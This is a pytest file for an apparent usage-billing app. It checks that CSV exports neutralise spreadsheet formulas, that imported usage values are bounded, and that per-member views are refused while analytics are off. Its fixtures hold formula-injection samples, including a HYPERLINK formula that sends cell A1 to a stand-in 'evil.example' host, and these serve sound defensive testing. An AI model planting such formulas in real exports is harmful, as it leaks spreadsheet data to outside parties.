"""Usage security (issue 14, items 3, 7 and 12): spreadsheet-safe CSV exports, bounded
usage values and sums, and per-member groupings refused while analytics are off."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pandas as pd
import pytest
from sqlalchemy import func, select

from kilo import audit, billing, csvsafe, usage
from kilo.errors import PermissionDenied, ValidationError
from kilo.members import actor_for
from kilo.models import Organization, UsageDaily, UsageDailyDim, UsageEvent
from kilo.permissions import system_actor
from tests.factories import create_member, create_org, create_team, usage_event

ROOT = Path(__file__).resolve().parents[2]
DAY = date(2026, 3, 2)
AT = datetime(2026, 3, 2, 10, tzinfo=UTC)
VIEW = usage.UsageFilter(start=DAY, end=DAY)
HEADER = (
    "timestamp,user_email,model,provider,mode,input_tokens,output_tokens,"
    "cache_read_tokens,cache_write_tokens,cost_usd,latency_ms,status,id\n"
)
EVIL_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def _record(session, actor, member_id: int, **overrides) -> bool:
    kwargs = dict(
        member_id=member_id,
        model_id="openai/gpt-5.4",
        provider="openai",
        input_tokens=100,
        output_tokens=20,
        cost_usd="0.001500",
        latency_ms=900,
        at=AT,
    )
    return usage.record_usage(session, actor=actor, **(kwargs | overrides))


def _stored(session, org_id: int) -> tuple[int, int]:
    events = session.execute(
        select(func.count()).select_from(UsageEvent).where(UsageEvent.org_id == org_id)
    ).scalar()
    rollup = session.execute(
        select(func.count()).select_from(UsageDaily).where(UsageDaily.org_id == org_id)
    ).scalar()
    return events, rollup


# ---- item 3: CSV formula injection -------------------------------------------------------


@pytest.fixture
def evil_org(session):
    """An organization whose member chose a formula as name, with usage under a formula
    model id and provider (all text that reaches the Usage CSVs)."""
    org = create_org(session)
    owner = create_member(session, org, "owner", email="olga@example.com")
    evil = create_member(session, org, "member", name=EVIL_NAME, email="-evil@example.com")
    gateway = system_actor(org.id, "Gateway")
    _record(session, gateway, evil.id, model_id="@SUM(1+1)", provider="+cmd", cost_usd="2.5")
    _record(session, gateway, owner.id, cost_usd="1.25")
    session.flush()
    return actor_for(owner), evil


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_per_user_csv_neutralises_formula_names_and_keeps_numbers(session, evil_org):
    owner, evil = evil_org
    rows = _rows(usage.export_member_csv(session, actor=owner, f=VIEW))
    mine = next(r for r in rows if r["member_id"] == str(evil.id))
    assert mine["name"] == "'" + EVIL_NAME
    assert mine["email"] == "'-evil@example.com"
    assert mine["cost_micros"] == "2500000" and mine["requests"] == "1"
    assert float(mine["share_of_spend"]) == pytest.approx(2.5 / 3.75)
    assert "removed" not in mine
    for row in rows:
        assert not any(v.startswith(csvsafe.FORMULA_PREFIXES) for v in row.values())


def test_daily_export_neutralises_emails_models_and_providers(session, evil_org):
    owner, _ = evil_org
    rows = _rows(usage.export_csv(session, actor=owner, f=VIEW))
    evil = next(r for r in rows if r["member_email"] == "'-evil@example.com")
    assert (evil["model_id"], evil["provider"]) == ("'@SUM(1+1)", "'+cmd")
    assert (evil["cost_usd"], evil["cost_micros"]) == ("2.500000", "2500000")
    for row in rows:
        assert not any(v.startswith(csvsafe.FORMULA_PREFIXES) for v in row.values())


def test_neutralise_touches_text_only():
    for bad in ["=1+1", "+1", "-1.5", "@SUM(A1)", "\tx", "\rx"]:
        assert csvsafe.neutralise(bad) == "'" + bad
    for number in [-1.5, -5, Decimal("-2.25"), 0]:
        assert csvsafe.neutralise(number) == number
    frame = pd.DataFrame({"label": ["=x", "ok"], "delta": [-1.5, 2.0], "n": [-3, 4]})
    assert csvsafe.frame_to_csv(frame) == "label,delta,n\n'=x,-1.5,-3\nok,2.0,4\n"
    assert audit.neutralise is csvsafe.neutralise  # the audit export uses the same helper


def test_every_csv_the_app_writes_goes_through_csvsafe():
    """No module writes CSV on its own: csv.writer / DictWriter / DataFrame.to_csv only in
    kilo/csvsafe.py."""
    pattern = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\.to_csv\(")
    offenders = []
    files = [ROOT / "app.py"]
    for folder in ("kilo", "pages", "ui"):
        files += sorted((ROOT / folder).rglob("*.py"))
    for path in files:
        if path == ROOT / "kilo" / "csvsafe.py":
            continue
        for n, line in enumerate(path.read_text().splitlines(), 1):
            if pattern.search(line):
                offenders.append(f"{path.relative_to(ROOT)}:{n}: {line.strip()}")
    assert offenders == []


# ---- item 7: bounded usage values, no sum can wrap ---------------------------------------


@pytest.fixture
def org(session):
    org = create_org(session)
    create_member(session, org, "owner", email="ada@example.com")
    session.commit()
    return org


def _line(
    cost: str = "0.1", tokens: str = "1", latency: str = "5", cache: str = "0", ext: str = ""
) -> str:
    return (
        f"2026-03-01T10:00:00Z,ada@example.com,m/a,p,code,{tokens},1,{cache},0,{cost},"
        f"{latency},success,{ext}\n"
    )


def test_a_file_with_a_huge_cost_is_refused_with_line_numbers(session, org, tmp_path):
    """Two rows of $5 trillion used to import and wrap the int64 sums (balance $8.4e12)."""
    balance = billing.balance_micros(session, org_id=org.id)
    path = tmp_path / "huge.csv"
    path.write_text(HEADER + _line() + _line("5000000000000") + _line("5000000000000"))
    with pytest.raises(ValidationError) as err:
        usage.import_usage(session, actor=system_actor(org.id), path=path)
    message = str(err.value)
    assert "nothing was stored" in message
    assert "lines 3, 4 (2 lines): cost “5000000000000” is over the maximum of $10,000" in message
    assert _stored(session, org.id) == (0, 0)
    assert billing.balance_micros(session, org_id=org.id) == balance


@pytest.mark.parametrize(
    ("cost", "reason"),
    [
        ("1e30", "exponent notation"),
        ("1E+30", "exponent notation"),
        ("1.2E-05", "exponent notation"),
        ("NaN", "is not a number"),
        ("sNaN", "is not a number"),
        ("Infinity", "is not a number"),
        ("-inf", "is not a number"),
        ("10000.000001", "over the maximum of $10,000"),
    ],
)
def test_bad_costs_in_files_get_a_line_numbered_reason(session, org, tmp_path, cost, reason):
    path = tmp_path / "cost.csv"
    path.write_text(HEADER + _line() + _line(f'"{cost}"'))
    with pytest.raises(ValidationError) as err:
        usage.import_usage(session, actor=system_actor(org.id), path=path)
    assert re.search(rf"line 3: cost “{re.escape(cost)}” .*{re.escape(reason)}", str(err.value))
    assert _stored(session, org.id) == (0, 0)


def test_tokens_latency_and_cache_tokens_are_bounded_in_files(session, org, tmp_path):
    path = tmp_path / "big.csv"
    path.write_text(
        HEADER
        + _line(tokens=str(usage.MAX_TOKENS))  # the maximum itself is fine
        + _line(tokens=str(usage.MAX_TOKENS + 1))
        + _line(latency="86400001")
        + _line(cache="9" * 5000)
        + _line(tokens="9223372036854775808")
    )
    with pytest.raises(ValidationError) as err:
        usage.import_usage(session, actor=system_actor(org.id), path=path)
    message = str(err.value)
    assert "line 3: input_tokens 1,000,000,001 is over the maximum of 1,000,000,000" in message
    assert "line 4: latency_ms 86,400,001 is over the maximum of 86,400,000" in message
    assert "line 5: cache_read_tokens “9999999999" in message
    assert "line 6: input_tokens “9223372036854775808” is over the maximum" in message
    assert _stored(session, org.id) == (0, 0)


def test_jsonl_numbers_are_bounded_too(session, org, tmp_path):
    row = {
        "timestamp": "2026-03-01T10:00:00Z",
        "user_email": "ada@example.com",
        "model": "m/a",
        "provider": "p",
        "input_tokens": 1,
        "output_tokens": 1,
        "cost_usd": 1.5e-05,  # a JSON number: any notation, taken as the number it is
        "latency_ms": 5,
        "status": "success",
    }
    path = tmp_path / "usage.jsonl"
    lines = [
        row,
        row | {"cost_usd": 1e30},
        row | {"output_tokens": 10**20},
        row | {"cost_usd": float("nan")},  # json.dumps writes NaN, which json.loads reads
    ]
    path.write_text("\n".join(json.dumps(r) for r in lines) + "\n")
    with pytest.raises(ValidationError) as err:
        usage.import_usage(session, actor=system_actor(org.id), path=path)
    message = str(err.value)
    assert "line 2: cost “1e+30” is over the maximum of $10,000" in message
    assert "line 3: output_tokens 100,000,000,000,000,000,000 is over the maximum" in message
    assert "line 4: cost “nan” is not a number of US dollars" in message
    assert _stored(session, org.id) == (0, 0)
    path.write_text(json.dumps(row) + "\n")
    assert usage.import_usage(session, actor=system_actor(org.id), path=path).cost_micros == 15


def test_record_usage_refuses_out_of_bounds_values(session):
    team = create_team(session)
    gateway = system_actor(team["owner"].org_id, "Gateway")
    member = team["member"].id
    refused = [
        {"cost_usd": "10000.000001"},
        {"cost_usd": Decimal("1E+30")},
        {"cost_usd": "1e30"},
        {"cost_usd": float("nan")},
        {"cost_usd": float("inf")},
        {"cost_usd": Decimal("sNaN")},
        {"cost_usd": 5_000_000_000_000},
        {"input_tokens": usage.MAX_TOKENS + 1},
        {"output_tokens": 10**100},
        {"cache_read_tokens": usage.MAX_TOKENS + 1},
        {"cache_write_tokens": usage.MAX_TOKENS + 1},
        {"latency_ms": usage.MAX_LATENCY_MS + 1},
    ]
    for overrides in refused:
        with pytest.raises(ValidationError, match="Usage not recorded: .*(cost|tokens|latency)"):
            _record(session, gateway, member, **overrides)
    assert _stored(session, team["owner"].org_id) == (0, 0)
    # The maxima themselves, and a Decimal in exponent form, are accepted.
    assert _record(
        session,
        gateway,
        member,
        cost_usd="10000",
        input_tokens=usage.MAX_TOKENS,
        cache_write_tokens=usage.MAX_TOKENS,
        latency_ms=usage.MAX_LATENCY_MS,
    )
    assert _record(session, gateway, member, cost_usd=Decimal("1.5E-5"))
    totals = usage.get_totals(session, actor=team["owner"], f=VIEW)
    assert totals["cost_micros"] == 10_000_000_015
    assert totals["cache_write_tokens"] == usage.MAX_TOKENS


def test_no_organization_sum_can_pass_the_ceiling(session):
    """Every rollup and query sums a subset of an organization's events: a batch that would
    take an organization-wide sum past MAX_ORG_TOTAL is refused, whoever inserts it."""
    team = create_team(session)
    org_id, member = team["owner"].org_id, team["member"].id

    def event(**measures: int) -> dict:
        return usage_event(member, AT, model_id="m/a", **measures)

    half = usage.MAX_ORG_TOTAL // 2 + 1
    usage.insert_events(session, org_id=org_id, events=[event(cost_micros=half)])
    with pytest.raises(ValidationError, match="total cost .micro-dollars. would pass"):
        usage.insert_events(session, org_id=org_id, events=[event(cost_micros=half)])
    with pytest.raises(ValidationError, match="total output tokens would pass"):
        usage.insert_events(
            session, org_id=org_id, events=[event(output_tokens=half), event(output_tokens=half)]
        )
    assert _stored(session, org_id) == (1, 1)
    stored = session.execute(
        select(func.sum(UsageDailyDim.cost_micros)).where(
            UsageDailyDim.org_id == org_id, UsageDailyDim.dim == "mode"
        )
    ).scalar()
    assert int(stored) == half
    assert billing.balance_micros(session, org_id=org_id) == -half  # exact, not wrapped


# ---- item 12: per-member groupings while analytics are off -------------------------------


def test_analytics_off_refuses_member_groupings_for_owners_and_admins(session):
    team = create_team(session)
    gateway = system_actor(team["owner"].org_id, "Gateway")
    for who in ("owner", "admin", "member"):
        _record(session, gateway, team[who].id)
    org = session.get(Organization, team["owner"].org_id)
    org.usage_analytics_enabled = False
    session.add(org)
    session.flush()
    for who in ("owner", "admin"):
        actor = team[who]
        calls = [
            lambda a=actor: usage.get_breakdown(session, actor=a, f=VIEW, by=("member_id",)),
            lambda a=actor: usage.get_breakdown(
                session, actor=a, f=VIEW, by=("model_id", "member_id"), daily=True
            ),
            lambda a=actor: usage.get_monthly(session, actor=a, f=VIEW, by="member_id"),
            lambda a=actor: usage.export_member_csv(session, actor=a, f=VIEW),
        ]
        for call in calls:
            with pytest.raises(PermissionDenied, match="turned off"):
                call()
        # Organization-wide views still work.
        assert usage.get_breakdown(session, actor=actor, f=VIEW)["requests"].sum() == 3
        assert usage.get_monthly(session, actor=actor, f=VIEW)["requests"].sum() == 3
        assert "member_email" in usage.export_csv(session, actor=actor, f=VIEW)
    # A member grouping by member sees only their own row, as before.
    mine = usage.get_breakdown(session, actor=team["member"], f=VIEW, by=("member_id",))
    assert mine["member_id"].tolist() == [team["member"].id]
    mine = usage.get_monthly(session, actor=team["member"], f=VIEW, by="member_id")
    assert mine["member_id"].tolist() == [team["member"].id]
    # Turned back on, owners and admins get the per-member grouping.
    org.usage_analytics_enabled = True
    session.add(org)
    session.flush()
    by_member = usage.get_breakdown(session, actor=team["admin"], f=VIEW, by=("member_id",))
    assert len(by_member) == 3
